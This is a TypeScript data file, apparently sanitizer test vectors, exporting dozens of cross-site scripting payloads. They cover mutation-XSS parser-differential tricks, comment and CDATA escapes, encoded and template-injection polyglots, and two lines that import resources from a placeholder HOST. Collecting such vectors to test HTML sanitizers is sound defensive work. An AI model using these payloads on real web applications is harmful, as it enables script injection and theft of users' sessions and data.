/** What a parser reads in another way than the next one, in the language of vectors.ts. */
export const reparsedVectors = {
  mutations: `
    <svg></p><style><a id="</style><img src=x onerror=RUN>">
    <svg><p><style><a title="</style><img src=x onerror=RUN>">
    <svg><style><img src=x onerror=RUN></style></svg>
    <svg><title><style><!--</style><img src=x onerror=RUN>--></title></svg>
    <svg><desc><table><svg><style><a title="</style><img src=x onerror=RUN>"></style></svg></table></desc></svg>
    <svg><foreignObject><math><mi><style><!--</style><img src=x onerror=RUN>--></style></mi></math></foreignObject></svg>
    <svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=RUN>"></style></foreignobject></annotation-xml></svg>
    <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">
    <math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=RUN">
    <math><mtext><mglyph><style><img src=x onerror=RUN></style></mglyph></mtext></math>
    <math><annotation-xml encoding="text/html"><style><img src=x onerror=RUN></style></annotation-xml></math>
    <math><mi><style><a title="</style><img src=x onerror=RUN>"></style></mi></math>
    <math><mtext><option><style><a title="</style><img src=x onerror=RUN>"></style></option></mtext></math>
    <form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>
    <form id=x></form><math><mtext><form><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src>">
    <form><div></form><svg><form><style></form><img src=x onerror=RUN></style></svg></div></form>
    <table><svg><p><style><a title="</style><img src=x onerror=RUN>">
    <table><tr><svg><td><style><a title="</style><img src=x onerror=RUN>"></td></svg></tr></table>
    <select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=RUN>">
    <select><svg><style><img src=x onerror=RUN></style></svg></select>
    <select><iframe><select><img src=x onerror=RUN></select></iframe></select>
    <option><style></option></select><b><img src=x onerror=RUN></style></option>
    <noscript><p title="</noscript><img src=x onerror=RUN>">
    <noscript><style></noscript><img src=x onerror=RUN></style>
    <noscript><!--</noscript><img src=x onerror=RUN>--></noscript>
    <p id="<noscript><p title='</noscript><img src=x onerror=RUN>'>">a</p>
    <template><noscript><p title="</noscript><img src=x onerror=RUN>"></template>
    <template shadowrootmode=open><img src=x onerror=RUN></template>
    <p><template shadowrootmode=open><style>@import '//HOST/a.css'</style><slot></slot></template>a</p>
    <template><s><template><s><img src=x onerror=RUN></s></template></s></template>
    <textarea><p title="</textarea><img src=x onerror=RUN>">
    <title><a title="</title><img src=x onerror=RUN>"></title>
    <xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>
    <noembed><p title="</noembed><img src=x onerror=RUN>"></noembed>
    <noframes><p title="</noframes><img src=x onerror=RUN>"></noframes>
    <iframe><p title="</iframe><img src=x onerror=RUN>"></iframe>
    <listing>&lt;img src=x onerror=RUN&gt;</listing>
    <plaintext></plaintext><img src=x onerror=RUN>
    <b><style><style/><img src=x onerror=RUN>
    <style><style///><img src=x onerror=RUN></style>
    <img alt="&lt;x&gt;&#96;&#96;onerror=RUN" src=x>
    <p title="‵‵onmouseover=RUN">a</p>
    <a href="https://a.ba/?&quot;onmouseover=RUN//">a</a>
    <a href='https://a.ba/"onmouseover=RUN//'>a</a>
    <a href="https://a.ba/#<img src=x onerror=RUN>">a</a>
    <a href="https://a.ba/␊onclick=RUN">a</a>
    <a href=https://a.ba/␌onclick=RUN>a</a>
    <a href="https://a.ba"x="><img src=x onerror=RUN>">a</a>
    <p class="</p><img src=x onerror=RUN>
    <svg><![CDATA[><image xlink:href="]]><img src=x onerror=RUN>"></svg>
    <math><![CDATA[<img src=x onerror=RUN>]]></math>
    <svg><!--&gt;<img src=x onerror=RUN>--></svg>
    <a><svg><a><p><style><a title="</style><img src=x onerror=RUN>"></a>
    <em><p><strong></em><script>RUN</script></strong></p>
    <h1><h2><table><h3><a><b></h1><img src=x onerror=RUN>
    <table><a href=javascript:RUN>a<td>b</a>c</table>
    <frameset><noframes><img src=x onerror=RUN></noframes></frameset>
    <isindex prompt="<img src=x onerror=RUN>">
    <ruby><rp><style></ruby><img src=x onerror=RUN></style></rp></ruby>`,
  comments: `
    <!--><img src=x onerror=RUN>-->
    <!---><img src=x onerror=RUN>-->
    <!-- --!><img src=x onerror=RUN>-->
    <!--<!--><img src=x onerror=RUN>--><!---->
    <!-- -- ><img src=x onerror=RUN>-->
    <!-␀-><img src=x onerror=RUN>-->
    <!x><img src=x onerror=RUN>
    <!x a="><img src=x onerror=RUN>">
    <!doctype a "><img src=x onerror=RUN>">
    <?x ><img src=x onerror=RUN>?>
    <?php echo '<img src=x onerror=RUN>' ?>
    <% a %><img src=x onerror=RUN>
    </ a="><img src=x onerror=RUN>">
    </␀><img src=x onerror=RUN>
    <!--[if gte IE 4]><script>RUN</script><![endif]-->
    <![if a]><script>RUN</script><![endif]>
    <![CDATA[<img src=x onerror=RUN>]]>
    <![CDATA[]]><script>RUN</script>
    <!ENTITY x "<img src=x onerror=RUN>">&x;
    <comment><img src="</comment><img src=x onerror=RUN>">`,
  polyglots: String.raw`
    jaVasCript:/*-/*‵/*‵/*'/*"/**/(/* */oNcliCk=RUN )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=RUN//>
    '">><marquee><img src=x onerror=RUN></marquee></plaintext\></|\><plaintext/onmouseover=RUN>
    "'--></style></script></title></textarea></noscript></template></xmp><img src=x onerror=RUN>
    '';!--"<XSS>=&{RUN}<img src=x onerror=RUN>
    ]]></script></svg></math><svg/onload=RUN>
    +ADw-script+AD4-RUN+ADw-/script+AD4-
    \u003cimg src=x onerror=RUN\u003e
    %3Cimg%20src=x%20onerror=RUN%3E
    ＜img src=x onerror=RUN＞
    ¼script¾RUN¼/script¾
    {{constructor.constructor('RUN')()}}
    ＄{RUN}<%= RUN %>#{RUN}
    <x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script>
    <x is=y xmlns="http://www.w3.org/1999/xhtml" onclick=RUN>a</x>
    <html xmlns:xss><?import namespace=xss implementation=//HOST/a.htc><xss:xss>a</xss:xss></html>`,
};
